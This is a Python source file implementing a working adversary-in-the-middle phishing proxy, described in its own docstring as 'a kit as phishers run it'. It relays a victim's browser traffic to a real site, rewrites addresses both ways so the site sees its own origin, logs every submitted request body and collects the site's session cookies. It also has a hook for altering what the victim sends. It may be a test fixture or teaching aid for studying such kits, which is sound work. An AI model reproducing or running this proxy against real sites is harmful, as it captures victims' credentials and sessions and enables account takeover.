"""A kit as phishers run it: at an address of its own, it passes all on to the real site and back."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import requests

# What belongs to one connection, or is counted anew here.
_OWN = frozenset(
    {"host", "connection", "transfer-encoding", "content-length", "content-encoding", "date", "server"}
)


class Kit:
    """Stands between a victim and the real site at `real`, and keeps what both say.

    The victim's browser is at `origin`. Addresses are rewritten in both directions, so that the real site
    believes its own page to speak.
    """

    def __init__(self, real: str) -> None:
        self.real = real
        self.sent: list[tuple[str, bytes]] = []
        self.cookies: dict[str, str] = {}
        self.origin = ""

    def pass_on(self, method: str, path: str, headers: dict[str, str], body: bytes) -> requests.Response:
        """Return the real site's answer to what the victim's browser asks."""
        body = self.changed(path, body)
        self.sent.append((path, body))
        theirs = {name: self._there(value) for name, value in headers.items() if name.lower() not in _OWN}
        answer = requests.request(
            method, self.real + path, headers=theirs, data=body, allow_redirects=False, timeout=30
        )
        self.cookies.update({each.name: each.value or "" for each in answer.cookies})
        return answer

    def changed(self, path: str, body: bytes) -> bytes:
        """Return what goes on to the real site of what the victim sends to a path."""
        return body

    def back(self, content: bytes) -> bytes:
        """Return what the real site says, with the kit's address in place of its own."""
        return content.replace(self.real.encode(), self.origin.encode())

    def _there(self, value: str) -> str:
        return value.replace(self.origin, self.real)


@contextmanager
def phishing(kit: Kit, *, host: str = "localhost") -> Iterator[Kit]:
    """Let the kit serve while the block runs, at a port of its own and by a name that leads here."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer()

        def do_POST(self) -> None:
            self._answer()

        def _answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            answer = kit.pass_on(self.command, self.path, dict(self.headers.items()), body)
            content = kit.back(answer.content)
            self.send_response(answer.status_code)
            for name, value in answer.raw.headers.items():
                if name.lower() not in _OWN:
                    self.send_header(name, kit.back(value.encode()).decode())
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("localhost", 0), Handler) as server:
        kit.origin = f"http://{host}:{server.server_address[1]}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield kit
        server.shutdown()
